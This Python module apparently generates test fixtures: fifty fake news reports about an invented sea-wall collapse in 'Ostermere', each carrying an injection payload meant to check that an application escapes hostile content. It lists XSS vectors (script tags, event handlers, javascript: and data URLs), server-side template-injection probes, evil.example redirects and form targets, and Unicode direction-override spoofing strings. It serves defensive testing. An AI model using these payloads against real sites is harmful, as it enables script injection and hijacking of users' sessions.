"""Fifty reports that attack whoever shows them: scripts, handlers, links, template words, signs that turn text around.

Each tells of the same invented event, so that it joins a story and gets findings, and has its attack in title, text,
byline, outlet or address. A script that runs calls `alert` or sets `window.hit`: the browser would tell.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.hit=1;alert(1)"
WORDS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'" autofocus onfocus={RUN} x="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">tide</text></a></svg>',
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f'<a href="javascript:{RUN}">the harbour office</a>',
    f'<a href="JaVaScRiPt:{RUN}">the harbour office</a>',
    f'<a href="java\tscript:{RUN}">the harbour office</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">the harbour office</a>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">tide</div>',
    '<form action="https://evil.example/"><input name="csrf"></form>',
    f'<details open ontoggle="{RUN}">tide</details>',
    f"<body onload={RUN}>",
    f'<input autofocus onfocus="{RUN}">',
    f'<button hx-get="/logout" hx-trigger="load" hx-on:click="{RUN}">tide</button>',
    '<div data-hx-get="/api/stories" data-hx-trigger="load">tide</div>',
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT OVERRIDE}" * 40 + "never closed",
    "\N{RIGHT-TO-LEFT ISOLATE}never closed either",
    "\N{ZERO WIDTH JOINER}\N{ZERO WIDTH SPACE}" * 200,
    "Z" + "\N{COMBINING ACUTE ACCENT}" * 300,
    "W" * 3000,
    "\N{ARABIC LIGATURE BISMILLAH AR-RAHMAN AR-RAHEEM}" * 60,
    "\x1b[31mbell",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    f"＜script＞{RUN}＜/script＞ ﹤img src=x onerror={RUN}﹥",
    "מאתיים נוסעים 200 ניצלו <b>הנמל</b> \N{LEFT-TO-RIGHT OVERRIDE}desrever",
)


def hostile_pages() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the content of fifty files: every other one a page in which the attack is raw HTML."""
    for number, words in enumerate(WORDS):
        text = number % 2 == 0
        name = f"hostile-{number:02}.{'txt' if text else 'html'}"
        yield name, (_write_text if text else _write_page)(number, words).encode("utf-8", "surrogatepass")


def _write_text(number: int, words: str) -> str:
    return f"Tide wall breaks at Ostermere {words}\n\n{_tell(number, words)}"


def _write_page(number: int, words: str) -> str:
    quoted = words.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    head = (
        f"<title>Tide wall breaks at Ostermere {quoted}</title>",
        f'<meta name="author" content="{quoted}">',
        f'<meta property="og:site_name" content="Ostermere {quoted} Post">',
        f'<meta property="article:published_time" content="2031-02-0{number % 9 + 1}">',
        f'<link rel="canonical" href="javascript:{RUN}">',
    )
    paragraphs = "".join(f"<p>{line}</p>" for line in _tell(number, quoted).split("\n\n"))
    body = f"<article><h1>Tide wall breaks at Ostermere {quoted}</h1>{paragraphs}{words}</article>"
    return f"<!DOCTYPE html><html><head>{''.join(head)}</head><body>{body}</body></html>"


def _tell(number: int, words: str) -> str:
    """Return a report of the event; some figures differ from one to the next: findings have something to show."""
    homes = 40 + number % 3
    return (
        f"The tide wall at Ostermere broke on Monday night and flooded {homes} homes near the fish market.\n\n"
        f"Harbour engineer Ilva Brandt {words} said the wall had been inspected in January.\n\n"
        f"“We heard it go {words} and then the water was there,” resident Poul Enke told reporters.\n\n"
        f"The town council said {words} that {homes} families had been taken to the school.\n\n"
        "Council leader Matis Rode denied that the repairs had been put off to save money."
    )
